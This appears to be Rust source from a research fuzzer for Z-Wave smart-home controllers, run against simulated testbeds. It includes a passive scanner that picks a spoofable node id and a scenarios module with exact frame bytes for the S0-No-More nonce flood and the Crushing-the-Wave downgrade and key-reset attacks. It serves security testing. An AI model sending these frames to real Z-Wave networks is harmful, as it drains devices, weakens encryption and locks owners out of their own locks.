    /// energy exceeds `r % total`. Returns `None` on an empty corpus.
    fn select(&self, r: u64) -> Option<usize> {
        let total: u64 = self.entries.iter().map(|e| e.energy).sum();
        if total == 0 {
            return None;
        }
        let mut point = r % total;
        for (i, e) in self.entries.iter().enumerate() {
            if point < e.energy {
                return Some(i);
            }
            point -= e.energy;
        }
        Some(self.entries.len() - 1)
    }
}

/// A deterministic seed scheduler: a splitmix64 stream (the same generator
/// the executor derives per-trial seeds from) drives energy-weighted corpus
/// selection and mutation-depth draws.
#[derive(Debug, Clone)]
pub struct PowerSchedule {
    state: u64,
}

impl PowerSchedule {
    /// Seeds the schedule from the trial seed.
    pub fn new(seed: u64) -> Self {
        PowerSchedule { state: seed }
    }

    /// The next splitmix64 draw.
    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Picks the next corpus entry to mutate, energy-weighted.
    pub fn choose(&mut self, corpus: &Corpus) -> Option<usize> {
        if corpus.is_empty() {
            return None;
        }
        let r = self.next_u64();
        corpus.select(r)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn empty_corpus_selects_nothing() {
        let mut sched = PowerSchedule::new(7);
        assert_eq!(sched.choose(&Corpus::new()), None);
    }

    #[test]
    fn selection_is_energy_weighted_and_deterministic() {
        let mut corpus = Corpus::new();
        corpus.retain(vec![0x20, 0x01], 1, 10);
        corpus.retain(vec![0x25, 0x01], 9, 20);
        let picks: Vec<usize> = {
            let mut sched = PowerSchedule::new(42);
            (0..1000).filter_map(|_| sched.choose(&corpus)).collect()
        };
        let again: Vec<usize> = {
            let mut sched = PowerSchedule::new(42);
            (0..1000).filter_map(|_| sched.choose(&corpus)).collect()
        };
        assert_eq!(picks, again, "schedule must be a pure function of the seed");
        let heavy = picks.iter().filter(|&&i| i == 1).count();
        assert!(heavy > 700, "entry with 9x energy picked only {heavy}/1000 times");
    }

    #[test]
    fn boost_shifts_the_distribution() {
        let mut corpus = Corpus::new();
        corpus.retain(vec![0x20, 0x01], 1, 1);
        corpus.retain(vec![0x25, 0x01], 1, 2);
        corpus.boost(0, 99);
        let mut sched = PowerSchedule::new(3);
        let first = (0..1000).filter_map(|_| sched.choose(&corpus)).filter(|&i| i == 0).count();
        assert!(first > 900, "boosted entry picked only {first}/1000 times");
    }
}

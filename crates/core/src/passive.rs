//! Phase 1a — passive scanning (Section III-B1, Figure 4).
//!
//! The scanner sniffs Z-Wave traffic, dissects captured frames
//! (raw bits → hex → fields) and recovers the network home id and the node
//! ids participating in exchanges. S2 encrypts only the APL payload, so
//! these fields are always recoverable.

use std::collections::BTreeMap;

use zwave_protocol::dissect::Dissection;
use zwave_protocol::{HomeId, NodeId};
use zwave_radio::{Medium, Sniffer};

/// Aggregate traffic statistics from the capture window.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TrafficStats {
    /// Valid frames observed per source node id.
    pub frames_per_node: BTreeMap<u8, usize>,
    /// Frames whose application payload was S0/S2 encapsulated.
    pub encrypted_frames: usize,
    /// Frames whose application payload travelled in the clear.
    pub cleartext_frames: usize,
}

impl TrafficStats {
    /// Fraction of APL-bearing traffic that was encrypted (0.0 when no
    /// application traffic was seen).
    pub fn encrypted_fraction(&self) -> f64 {
        let total = self.encrypted_frames + self.cleartext_frames;
        if total == 0 {
            return 0.0;
        }
        self.encrypted_frames as f64 / total as f64
    }
}

/// The known network properties recovered by scanning (Table IV's passive
/// columns).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanReport {
    /// The network home id.
    pub home_id: HomeId,
    /// The inferred controller node id (0x01 on every tested device).
    pub controller: NodeId,
    /// Slave node ids observed in exchanges.
    pub slaves: Vec<NodeId>,
    /// How many frames were captured to produce this report.
    pub frames_captured: usize,
    /// Traffic statistics over the capture window.
    pub traffic: TrafficStats,
}

impl ScanReport {
    /// A node id usable as a spoofed source: prefers a real slave so
    /// injected frames blend into the network.
    pub fn spoof_source(&self) -> NodeId {
        self.slaves.first().copied().unwrap_or(NodeId(0x0F))
    }
}

/// The passive scanner.
#[derive(Debug)]
pub struct PassiveScanner {
    sniffer: Sniffer,
}

impl PassiveScanner {
    /// Attaches the scanner's dongle to `medium` at `position_m`.
    pub fn new(medium: &Medium, position_m: f64) -> Self {
        PassiveScanner { sniffer: Sniffer::attach(medium, position_m) }
    }

    /// Pulls captured traffic and, if any valid Z-Wave frames were seen,
    /// produces a [`ScanReport`].
    ///
    /// Dissection drops frames that fail MAC validation (channel noise), so
    /// the report is built only from well-formed traffic. The home id is
    /// taken by majority vote; the controller is inferred as the node
    /// participating in the most exchanges (hubs are the traffic centre).
    pub fn analyze(&mut self) -> Option<ScanReport> {
        self.sniffer.poll();
        let dissections: Vec<Dissection> = self
            .sniffer
            .captures()
            .iter()
            .filter_map(|f| Dissection::from_buf(&f.bytes).ok())
            .collect();
        if dissections.is_empty() {
            return None;
        }

        // Majority home id.
        let mut home_votes: BTreeMap<u32, usize> = BTreeMap::new();
        for d in &dissections {
            *home_votes.entry(d.home_id.0).or_default() += 1;
        }
        let home_id = HomeId(*home_votes.iter().max_by_key(|(_, v)| **v).map(|(k, _)| k)?);

        // Node participation counts on that network.
        let mut participation: BTreeMap<u8, usize> = BTreeMap::new();
        for d in dissections.iter().filter(|d| d.home_id == home_id) {
            for node in [d.src, d.dst] {
                if !node.is_broadcast() {
                    *participation.entry(node.0).or_default() += 1;
                }
            }
        }
        // Ties go to the smaller node id: primary controllers receive the
        // first id at network formation.
        let controller = NodeId(
            *participation
                .iter()
                .max_by_key(|(k, v)| (**v, std::cmp::Reverse(**k)))
                .map(|(k, _)| k)?,
        );
        let slaves: Vec<NodeId> =
            participation.keys().filter(|&&n| n != controller.0).map(|&n| NodeId(n)).collect();

        let mut traffic = TrafficStats::default();
        for d in dissections.iter().filter(|d| d.home_id == home_id) {
            *traffic.frames_per_node.entry(d.src.0).or_default() += 1;
            if let Some(apl) = &d.apl {
                let cc = apl.command_class().0;
                if (cc == 0x9F || cc == 0x98) && matches!(apl.command(), Some(0x03) | Some(0x81)) {
                    traffic.encrypted_frames += 1;
                } else {
                    traffic.cleartext_frames += 1;
                }
            }
        }

        Some(ScanReport {
            home_id,
            controller,
            slaves,
            frames_captured: dissections.len(),
            traffic,
        })
    }

    /// Access to the underlying capture log.
    pub fn sniffer(&self) -> &Sniffer {
        &self.sniffer
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use zwave_controller::testbed::{DeviceModel, Testbed};

    #[test]
    fn recovers_home_and_node_ids_from_normal_traffic() {
        let mut tb = Testbed::new(DeviceModel::D6, 11);
        let mut scanner = PassiveScanner::new(tb.medium(), 70.0);
        assert!(scanner.analyze().is_none(), "no traffic yet");

        tb.exchange_normal_traffic();
        let report = scanner.analyze().expect("traffic was on the air");
        assert_eq!(report.home_id, HomeId(0xCB95A34A));
        assert_eq!(report.controller, NodeId(0x01));
        assert!(report.slaves.contains(&NodeId(0x02)) || report.slaves.contains(&NodeId(0x03)));
        assert!(report.frames_captured >= 4);
    }

    #[test]
    fn works_despite_s2_encryption() {
        // The hub↔lock exchange is S2-encrypted; the scanner still reads
        // home and node ids (Section III-B1).
        let mut tb = Testbed::new(DeviceModel::D7, 12);
        let mut scanner = PassiveScanner::new(tb.medium(), 70.0);
        tb.controller_mut().query_door_lock(zwave_controller::LOCK_NODE);
        tb.pump();
        let report = scanner.analyze().unwrap();
        assert_eq!(report.home_id, HomeId(0xEDC87EE4));
        assert!(report.slaves.contains(&NodeId(0x02)));
    }

    #[test]
    fn spoof_source_prefers_a_real_slave() {
        let mut tb = Testbed::new(DeviceModel::D1, 13);
        let mut scanner = PassiveScanner::new(tb.medium(), 40.0);
        tb.exchange_normal_traffic();
        let report = scanner.analyze().unwrap();
        let spoof = report.spoof_source();
        assert!(report.slaves.contains(&spoof));
        // And the fallback when nothing was learned:
        let empty = ScanReport {
            home_id: HomeId(1),
            controller: NodeId(1),
            slaves: vec![],
            frames_captured: 0,
            traffic: TrafficStats::default(),
        };
        assert_eq!(empty.spoof_source(), NodeId(0x0F));
    }
}

#[cfg(test)]
mod traffic_tests {
    use super::*;
    use zwave_controller::testbed::{DeviceModel, Testbed};

    #[test]
    fn traffic_stats_count_per_node_and_encryption() {
        let mut tb = Testbed::new(DeviceModel::D6, 17);
        let mut scanner = PassiveScanner::new(tb.medium(), 70.0);
        for _ in 0..3 {
            tb.exchange_normal_traffic();
        }
        let report = scanner.analyze().unwrap();
        let stats = &report.traffic;
        // Hub, lock, and switch all transmitted.
        assert!(stats.frames_per_node.contains_key(&0x01));
        assert!(stats.frames_per_node.contains_key(&0x02));
        assert!(stats.frames_per_node.contains_key(&0x03));
        // Hub↔lock is S2 while the switch reports in the clear: the
        // window shows a mix.
        assert!(stats.encrypted_frames > 0, "{stats:?}");
        assert!(stats.cleartext_frames > 0, "{stats:?}");
        let f = stats.encrypted_fraction();
        assert!(f > 0.0 && f < 1.0, "fraction {f}");
        assert_eq!(TrafficStats::default().encrypted_fraction(), 0.0);
    }
}

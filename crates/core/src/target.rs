//! The boundary between ZCover and the system under test.
//!
//! ZCover reaches the device only through the radio — the same black-box
//! constraint the paper faces. The extra methods on [`FuzzTarget`] model
//! the parts of the experiment that are *not* the fuzzer: the simulation
//! scheduler ([`FuzzTarget::pump`]), the authors' manual verification of
//! each finding ([`FuzzTarget::take_faults`]), and the between-trial
//! factory reset.

use zwave_controller::testbed::Testbed;
use zwave_controller::{FaultRecord, HomeNetwork, NodeRecord, LOCK_NODE};
use zwave_protocol::nif::BasicDeviceType;
use zwave_protocol::{CommandClassId, NodeId};
use zwave_radio::{Medium, SimInstant};

use crate::scenarios::{Scenario, GHOST_NODE};

/// A fuzzable Z-Wave network.
pub trait FuzzTarget {
    /// The radio medium to attach the attacker dongle to.
    fn medium(&self) -> &Medium;

    /// Lets every simulated device process pending traffic.
    fn pump(&mut self);

    /// Hops virtual time forward to the next scheduled event (at most
    /// `cap`), returning whether an event was reached. With nothing due
    /// before `cap`, time advances to `cap` and this returns `false` —
    /// the caller's signal that further waiting is pointless.
    fn advance_to_event(&mut self, cap: SimInstant) -> bool {
        self.medium().advance_to_next_wakeup(cap)
    }

    /// Drains verified fault events since the last call — the oracle that
    /// stands in for the paper's manual crash verification and PoC
    /// confirmation (Section IV-A).
    fn take_faults(&mut self) -> Vec<FaultRecord>;

    /// Restores the device to factory state (between trials).
    fn restore(&mut self);

    /// Causes one round of benign network traffic for passive scanning.
    fn generate_normal_traffic(&mut self);

    /// Monotonic count of distinct APL dispatch edges lit on the target —
    /// the per-packet feedback read of the coverage-guided mode. Targets
    /// without instrumentation report zero (coverage mode then degrades
    /// to blind mutation; nothing is ever retained).
    fn coverage_edges(&self) -> u64 {
        0
    }

    /// Puts the network into the state an attack scenario presumes —
    /// e.g. an included-but-offline battery node for S0-No-More, or an
    /// armed re-inclusion window for Crushing-the-Wave. Called once per
    /// campaign, before fingerprinting; a no-op for [`Scenario::None`]
    /// and for targets without scenario support.
    fn prepare_scenario(&mut self, _scenario: Scenario) {}

    /// The repeater chain injected frames must traverse to reach the
    /// controller, in forwarding order — `None` when the controller is in
    /// direct range (the flat-testbed default). The fuzzer configures its
    /// dongle with this once per campaign, after discovery: probes go
    /// direct, fuzz frames ride the mesh.
    fn injection_route(&self) -> Option<Vec<NodeId>> {
        None
    }
}

/// The scenario preconditions, shared by every target with a
/// [`SimController`](zwave_controller::SimController) inside.
fn prepare_scenario_on(controller: &mut zwave_controller::SimController, scenario: Scenario) {
    match scenario {
        Scenario::None => {}
        // S0-No-More presumes a battery device that is *included* in
        // the controller's NVM but currently offline (radio off
        // between wakeups) — the identity the attacker spoofs.
        Scenario::S0NoMore => {
            let mut ghost = NodeRecord::new(GHOST_NODE, BasicDeviceType::Slave);
            ghost.generic = 0x20; // binary sensor
            ghost.listening = false;
            ghost.offline = true;
            ghost.wakeup_interval_s = Some(4000);
            ghost.supported = vec![
                CommandClassId(0x30),
                CommandClassId::BATTERY,
                CommandClassId::WAKE_UP,
                CommandClassId::SECURITY_0,
            ];
            controller.nvm_mut().insert(ghost);
            // Committed so mid-campaign factory restores (bug
            // recovery) keep the record: the premise of the attack,
            // not state the attack created.
            controller.commit_factory_state();
        }
        // Crushing-the-Wave presumes a re-inclusion of the S2 lock
        // is in progress (the window the attacker races).
        Scenario::CrushingTheWave => {
            controller.arm_reinclusion(LOCK_NODE);
        }
    }
}

impl FuzzTarget for Testbed {
    fn medium(&self) -> &Medium {
        Testbed::medium(self)
    }

    fn pump(&mut self) {
        Testbed::pump(self);
    }

    fn take_faults(&mut self) -> Vec<FaultRecord> {
        self.controller_mut().take_new_faults()
    }

    fn restore(&mut self) {
        self.controller_mut().restore_factory();
    }

    fn generate_normal_traffic(&mut self) {
        self.exchange_normal_traffic();
    }

    fn coverage_edges(&self) -> u64 {
        Testbed::coverage_edges(self)
    }

    fn prepare_scenario(&mut self, scenario: Scenario) {
        prepare_scenario_on(self.controller_mut(), scenario);
    }
}

impl FuzzTarget for HomeNetwork {
    fn medium(&self) -> &Medium {
        HomeNetwork::medium(self)
    }

    fn pump(&mut self) {
        HomeNetwork::pump(self);
    }

    fn take_faults(&mut self) -> Vec<FaultRecord> {
        self.controller_mut().take_new_faults()
    }

    fn restore(&mut self) {
        self.controller_mut().restore_factory();
    }

    fn generate_normal_traffic(&mut self) {
        self.exchange_normal_traffic();
    }

    fn coverage_edges(&self) -> u64 {
        HomeNetwork::coverage_edges(self)
    }

    fn prepare_scenario(&mut self, scenario: Scenario) {
        prepare_scenario_on(self.controller_mut(), scenario);
    }

    fn injection_route(&self) -> Option<Vec<NodeId>> {
        HomeNetwork::injection_route(self)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use zwave_controller::DeviceModel;

    #[test]
    fn testbed_implements_fuzz_target() {
        let mut tb = Testbed::new(DeviceModel::D1, 3);
        let t: &mut dyn FuzzTarget = &mut tb;
        t.generate_normal_traffic();
        t.pump();
        assert!(t.take_faults().is_empty());
        t.restore();
    }
}

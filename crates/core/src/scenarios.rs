//! The attack-scenario library: end-to-end adversary campaigns that run
//! *concurrently* with a fuzzing campaign, reproducing the two published
//! Z-Wave attacks the paper's Section V grounds its impact analysis in.
//!
//! - **S0-No-More** ([`Scenario::S0NoMore`]): the attacker floods S0
//!   `Nonce Get` frames spoofed from a NodeID that is included in the
//!   controller's NVM but offline (a battery device whose radio is off).
//!   A vulnerable controller (bug #16) answers every request with a
//!   `Nonce Report`, burning transmit energy it budgets for sleepy-node
//!   wakeups — the oracle converts the metered spend into a
//!   [`zwave_controller::EffectKind::BatteryDrain`] verdict once the
//!   wake/TX budget is exhausted.
//! - **Crushing-the-Wave** ([`Scenario::CrushingTheWave`]): during a
//!   re-inclusion window the attacker first forces an S2→S0 downgrade
//!   with a `KEX Set` requesting only the S0 key (bug #17,
//!   [`zwave_controller::EffectKind::SecurityDowngrade`]), then resets
//!   the S0 network key with an unauthenticated `Key Set` (bug #18,
//!   [`zwave_controller::EffectKind::Lockout`]).
//!
//! A scenario is driven by a [`ScenarioDriver`] wrapping an
//! [`AttackerStation`]: every frame's fire time and bytes are pure
//! functions of `(scenario, seed, frame index)`, so attack campaigns are
//! bit-identical across worker counts and replayable from a trace header
//! exactly like plain fuzzing campaigns.

use std::time::Duration;

use zwave_protocol::frame::FrameControl;
use zwave_protocol::{ChecksumKind, HomeId, MacFrame, NodeId};
use zwave_radio::{AttackerSchedule, AttackerStation, Medium, SimInstant};

/// NodeID of the included-but-offline battery device whose identity the
/// S0-No-More attacker spoofs. The scenario preparation step inserts this
/// record into the controller's NVM; it never appears in a factory
/// testbed, so non-scenario campaigns are byte-identical to before.
pub const GHOST_NODE: NodeId = NodeId(0x05);

/// Node whose re-inclusion the Crushing-the-Wave attacker hijacks (the
/// S2 door lock of every testbed network).
pub const TARGET_NODE: NodeId = zwave_controller::LOCK_NODE;

/// The S0 network key the Crushing-the-Wave attacker installs via the
/// unauthenticated `Key Set` — a value the attacker knows, locking the
/// legitimate network out of its own S0 traffic.
pub const ATTACKER_KEY: [u8; 16] = [0xA7; 16];

/// Distance of the scripted adversary station from the controller
/// (within the paper's 10-70 m threat-model range).
pub const ATTACKER_POSITION_M: f64 = 30.0;

/// Which scripted adversary (if any) shares the medium with a campaign.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Scenario {
    /// No adversary station: the plain fuzzing campaign.
    #[default]
    None,
    /// S0-No-More battery-drain DoS: NonceGet flood toward an offline
    /// NodeID (bug #16 → `BatteryDrain`).
    S0NoMore,
    /// Crushing-the-Wave inclusion downgrade and key reset (bugs #17 and
    /// #18 → `SecurityDowngrade` then `Lockout`).
    CrushingTheWave,
}

impl Scenario {
    /// Canonical CLI/JSON/trace-header name.
    pub fn name(self) -> &'static str {
        match self {
            Scenario::None => "none",
            Scenario::S0NoMore => "s0-no-more",
            Scenario::CrushingTheWave => "crushing-the-wave",
        }
    }

    /// Parses a canonical name; `None` for an unknown one.
    pub fn parse(name: &str) -> Option<Scenario> {
        Some(match name {
            "none" => Scenario::None,
            "s0-no-more" => Scenario::S0NoMore,
            "crushing-the-wave" => Scenario::CrushingTheWave,
            _ => return None,
        })
    }

    /// The two real attack scenarios (excluding [`Scenario::None`]).
    pub fn all() -> [Scenario; 2] {
        [Scenario::S0NoMore, Scenario::CrushingTheWave]
    }

    /// The transmission schedule of this scenario's adversary, anchored
    /// at the campaign start. `None` for [`Scenario::None`].
    pub fn schedule(self, anchor: SimInstant, seed: u64) -> Option<AttackerSchedule> {
        match self {
            Scenario::None => None,
            // An unbounded flood: half-second spacing drains the metered
            // wake/TX budget within the first virtual minute even on a
            // lossy channel.
            Scenario::S0NoMore => Some(AttackerSchedule {
                anchor,
                start: Duration::from_secs(2),
                period: Duration::from_millis(500),
                seed,
                count: None,
            }),
            // Twelve downgrade attempts then twelve key resets: enough
            // redundancy that impaired channels still deliver both
            // stages inside a one-minute budget.
            Scenario::CrushingTheWave => Some(AttackerSchedule {
                anchor,
                start: Duration::from_secs(3),
                period: Duration::from_millis(1500),
                seed,
                count: Some(24),
            }),
        }
    }

    /// The on-air bytes of attack frame `index` — a pure function of
    /// `(scenario, network identity, index)`, so scripts replay
    /// bit-identically. `None` when the scenario sends no such frame.
    pub fn frame_bytes(self, home_id: HomeId, controller: NodeId, index: u64) -> Option<Vec<u8>> {
        let (src, payload) = match self {
            Scenario::None => return None,
            // S0 Nonce Get spoofed from the offline ghost node.
            Scenario::S0NoMore => (GHOST_NODE, vec![0x98, 0x40]),
            // Phase 1 (indices 0-11): KEX Set requesting S0 only.
            Scenario::CrushingTheWave if index < 12 => (TARGET_NODE, vec![0x9F, 0x06, 0x80]),
            // Phase 2 (indices 12-23): unauthenticated S0 Key Set.
            Scenario::CrushingTheWave => {
                let mut payload = vec![0x98, 0x06];
                payload.extend_from_slice(&ATTACKER_KEY);
                (TARGET_NODE, payload)
            }
        };
        // Roll the 4-bit MAC sequence with the frame index so repeated
        // scripts are not suppressed by the receiver's duplicate filter
        // (window 8 < the 16-value sequence cycle).
        let fc = FrameControl::singlecast((index & 0x0F) as u8);
        MacFrame::try_new(home_id, src, fc, controller, payload, ChecksumKind::Cs8)
            .ok()
            .map(|frame| frame.encode())
    }
}

impl std::fmt::Display for Scenario {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// A scripted adversary bound to one campaign: an [`AttackerStation`]
/// plus the network identity its frames are crafted against.
///
/// The fuzzer services the driver once per injected test case; the
/// station transmits every attack frame whose fire time has passed (in
/// index order) and keeps a wakeup armed so outage-recovery event hops
/// land on attack instants instead of skipping them.
#[derive(Debug)]
pub struct ScenarioDriver {
    scenario: Scenario,
    home_id: HomeId,
    controller: NodeId,
    station: AttackerStation,
}

impl ScenarioDriver {
    /// Attaches the scenario's adversary station to `medium`, anchored at
    /// `anchor` (the campaign start). `None` for [`Scenario::None`].
    pub fn new(
        scenario: Scenario,
        medium: &Medium,
        anchor: SimInstant,
        seed: u64,
        home_id: HomeId,
        controller: NodeId,
    ) -> Option<Self> {
        let schedule = scenario.schedule(anchor, seed)?;
        Some(ScenarioDriver {
            scenario,
            home_id,
            controller,
            station: AttackerStation::attach(medium, ATTACKER_POSITION_M, schedule),
        })
    }

    /// The scenario being driven.
    pub fn scenario(&self) -> Scenario {
        self.scenario
    }

    /// Attack frames transmitted so far.
    pub fn frames_sent(&self) -> u64 {
        self.station.frames_sent()
    }

    /// Transmits every due attack frame and returns the indices sent
    /// this call (usually zero or one; a burst after an idle event hop).
    pub fn step(&mut self) -> Vec<u64> {
        let (scenario, home, ctrl) = (self.scenario, self.home_id, self.controller);
        let sent = self.station.service(|i| scenario.frame_bytes(home, ctrl, i));
        // The station never reads the medium; drop its captures so an
        // unbounded flood does not hoard receive buffers.
        let _ = self.station.radio().drain();
        sent
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_round_trip() {
        for scenario in [Scenario::None, Scenario::S0NoMore, Scenario::CrushingTheWave] {
            assert_eq!(Scenario::parse(scenario.name()), Some(scenario));
        }
        assert_eq!(Scenario::parse("s2-no-more"), None);
    }

    #[test]
    fn frame_bytes_are_pure_in_the_index() {
        let home = HomeId(0xE7DE3F3D);
        let ctrl = NodeId(0x01);
        for scenario in Scenario::all() {
            for i in 0..24 {
                assert_eq!(
                    scenario.frame_bytes(home, ctrl, i),
                    scenario.frame_bytes(home, ctrl, i),
                    "{scenario} frame {i}"
                );
            }
        }
        assert_eq!(Scenario::None.frame_bytes(home, ctrl, 0), None);
    }

    #[test]
    fn crushing_script_has_two_phases() {
        let home = HomeId(0xCD007171);
        let ctrl = NodeId(0x01);
        let kex = Scenario::CrushingTheWave.frame_bytes(home, ctrl, 0).unwrap();
        let reset = Scenario::CrushingTheWave.frame_bytes(home, ctrl, 12).unwrap();
        let kex_mac = MacFrame::decode(&kex).unwrap();
        let reset_mac = MacFrame::decode(&reset).unwrap();
        assert_eq!(kex_mac.payload(), [0x9F, 0x06, 0x80]);
        assert_eq!(reset_mac.payload()[..2], [0x98, 0x06]);
        assert_eq!(reset_mac.payload()[2..], ATTACKER_KEY);
        assert_eq!(kex_mac.src(), TARGET_NODE);
    }

    #[test]
    fn consecutive_frames_roll_the_mac_sequence() {
        let home = HomeId(0xE7DE3F3D);
        let ctrl = NodeId(0x01);
        let frames: Vec<Vec<u8>> =
            (0..16).map(|i| Scenario::S0NoMore.frame_bytes(home, ctrl, i).unwrap()).collect();
        // All 16 are pairwise distinct (the sequence nibble differs), so
        // no receiver-side duplicate window ever suppresses the flood.
        for (i, a) in frames.iter().enumerate() {
            for b in &frames[i + 1..] {
                assert_ne!(a, b);
            }
        }
    }
}

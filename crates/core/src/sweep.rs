//! City-scale sharded sweep: thousands of independent smart homes fuzzed
//! in one process.
//!
//! The paper evaluates one controller at a time on one physical testbed.
//! The simulation removes that constraint: a *sweep* builds `N` fully
//! independent [`HomeNetwork`]s — each with its own medium, clock,
//! topology and per-home seed — and runs a complete ZCover campaign
//! against every one of them. Homes are grouped into fixed-size *shards*
//! (contiguous blocks of home indices), and the shards are scheduled
//! across the [`CampaignExecutor`] worker pool via the same claim/slot
//! discipline the multi-trial runner uses, so:
//!
//! - shard boundaries are a pure function of `(homes, shard_size)` —
//!   never of the worker count — and
//! - every aggregate is merged in home-index order from order-independent
//!   pieces ([`MediumStats::merge`], [`CampaignCounters::merge`],
//!   `CoverageMap::merge`, bug-id multisets),
//!
//! which together make the merged [`SweepSummary`] bit-identical for any
//! worker count (`tests/sweep_matrix.rs` pins this for workers 1/2/4).
//!
//! Wall-clock throughput (homes/sec per shard and aggregate) is reported
//! *next to* the summary in [`SweepTiming`], never inside it: timing is
//! real, everything in the summary is reproducible.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::time::Instant;

use zwave_controller::{CoverageMap, DeviceModel, HomeNetwork, Topology};
use zwave_radio::MediumStats;

use crate::executor::{derive_trial_seed, CampaignExecutor};
use crate::fuzzer::{CampaignCounters, FuzzConfig};
use crate::trace::{TraceMeta, TraceRecorder};
use crate::{ZCover, ZCoverError};

/// Homes per shard when the caller does not choose: small enough that a
/// four-worker pool stays busy on a 256-home sweep, large enough that the
/// per-shard bookkeeping vanishes against the campaigns themselves.
pub const DEFAULT_SHARD_SIZE: u64 = 64;

/// Where a sweep records its per-home traces: `{dir}/home{N}.zct`, one
/// compact binary trace per home, written by whichever worker runs the
/// home's shard. A home's journal is a pure function of its derived seed,
/// so the files are bit-identical for any worker count — the property
/// `tests/trace_binary.rs` pins for workers 1/2/4. (Per-home recording
/// only became feasible with the binary format: a 10 000-home sweep at
/// JSONL sizes would write gigabytes of journal.)
///
/// These journals are analytics artifacts for `zcover trace export` and
/// `zcover trace stats`. `zcover replay` re-executes the flat
/// single-home testbed named by the header, so a multi-hop home's
/// journal reports a divergence rather than re-running its mesh.
#[derive(Debug, Clone)]
pub struct SweepRecord {
    /// Directory the per-home traces are written into (created on
    /// demand).
    pub dir: PathBuf,
    /// Canonical configuration name recorded in each header.
    pub config_name: String,
}

impl SweepRecord {
    /// The trace file path for `home`.
    pub fn home_path(&self, home: u64) -> PathBuf {
        self.dir.join(format!("home{home}.zct"))
    }
}

/// What to sweep: how many homes, their mesh shape, and the per-home
/// campaign configuration.
#[derive(Debug, Clone)]
pub struct SweepConfig {
    /// Number of independent home networks.
    pub homes: u64,
    /// Mesh shape every home is built with (each home draws its own
    /// repeater count / chord set from its per-home seed).
    pub topology: Topology,
    /// Campaign configuration template; each home runs it with the
    /// per-home seed substituted (exactly like the multi-trial runner).
    pub base: FuzzConfig,
    /// Homes per shard (clamped to at least 1).
    pub shard_size: u64,
    /// Per-home trace recording, when requested (`zcover sweep
    /// --record-dir`).
    pub record: Option<SweepRecord>,
}

impl SweepConfig {
    /// A sweep of `homes` homes on `topology`, with the default shard
    /// size. The sweep seed is `base.seed`.
    pub fn new(homes: u64, topology: Topology, base: FuzzConfig) -> Self {
        SweepConfig { homes, topology, base, shard_size: DEFAULT_SHARD_SIZE, record: None }
    }

    /// Overrides the shard size.
    pub fn with_shard_size(mut self, shard_size: u64) -> Self {
        self.shard_size = shard_size.max(1);
        self
    }

    /// Enables per-home trace recording into `record.dir`.
    pub fn with_record(mut self, record: SweepRecord) -> Self {
        self.record = Some(record);
        self
    }

    /// Number of shards: `ceil(homes / shard_size)` — a pure function of
    /// the configuration, never of the worker count.
    pub fn shard_count(&self) -> u64 {
        self.homes.div_ceil(self.shard_size.max(1))
    }

    /// The seed home `home` fuzzes with — the same splitmix64 stream the
    /// trial executor uses, keyed on the sweep seed (`base.seed`).
    pub fn home_seed(&self, home: u64) -> u64 {
        derive_trial_seed(self.base.seed, home)
    }

    /// The controller model installed in home `home`: the Table II
    /// population D1..D7, rotated so every shard holds a mixed city
    /// block rather than 10 000 copies of one firmware.
    pub fn home_model(&self, home: u64) -> DeviceModel {
        DeviceModel::all()[(home % 7) as usize]
    }
}

/// Deterministic aggregate of one shard (a contiguous block of homes),
/// merged in home-index order.
#[derive(Debug, Clone, PartialEq)]
pub struct ShardSummary {
    /// Shard index.
    pub shard: u64,
    /// First home index in the shard.
    pub first_home: u64,
    /// Homes actually run (the last shard may be short).
    pub homes: u64,
    /// Summed campaign event counters across the shard's homes.
    pub counters: CampaignCounters,
    /// Summed channel statistics across the shard's (independent) media.
    pub channel: MediumStats,
    /// For each bug id, how many of the shard's homes found it.
    pub hit_counts: BTreeMap<u8, u64>,
    /// OR-merged APL dispatch coverage across the shard's devices.
    pub coverage: CoverageMap,
}

impl ShardSummary {
    /// An empty shard aggregate (the merge identity).
    fn empty(shard: u64, first_home: u64) -> Self {
        ShardSummary {
            shard,
            first_home,
            homes: 0,
            counters: CampaignCounters::default(),
            channel: MediumStats::default(),
            hit_counts: BTreeMap::new(),
            coverage: CoverageMap::new(),
        }
    }

    /// Distinct bug ids the shard found, ascending.
    pub fn bug_ids(&self) -> Vec<u8> {
        self.hit_counts.keys().copied().collect()
    }
}

/// The deterministic result of a sweep: per-shard aggregates plus the
/// city-wide merge. Bit-identical for any worker count.
#[derive(Debug, Clone, PartialEq)]
pub struct SweepSummary {
    /// Homes swept.
    pub homes: u64,
    /// Mesh shape the homes were built with.
    pub topology: Topology,
    /// Homes per shard.
    pub shard_size: u64,
    /// Engine that drove every campaign (zcover / vfuzz / coverage).
    pub mode: crate::fuzzer::FuzzMode,
    /// Scripted adversary each home's campaign ran against.
    pub scenario: crate::scenarios::Scenario,
    /// Channel impairment profile every home's medium was shaped with.
    pub impairment: crate::ImpairmentProfile,
    /// Per-shard aggregates, in shard order.
    pub shards: Vec<ShardSummary>,
    /// City-wide campaign counters (sum over every home).
    pub counters: CampaignCounters,
    /// City-wide channel statistics (sum over every independent medium).
    pub channel: MediumStats,
    /// For each bug id, how many homes found it.
    pub hit_counts: BTreeMap<u8, u64>,
    /// Distinct APL dispatch edges lit anywhere in the city (OR-merge of
    /// every home's coverage map — *not* the sum of per-home counts).
    pub coverage_edges: u64,
}

impl SweepSummary {
    /// Distinct bug ids found anywhere in the city, ascending.
    pub fn union_bug_ids(&self) -> Vec<u8> {
        self.hit_counts.keys().copied().collect()
    }

    /// Fraction of homes that found `bug_id`.
    pub fn hit_rate(&self, bug_id: u8) -> f64 {
        *self.hit_counts.get(&bug_id).unwrap_or(&0) as f64 / self.homes.max(1) as f64
    }
}

/// Wall-clock timing of a sweep, kept apart from the deterministic
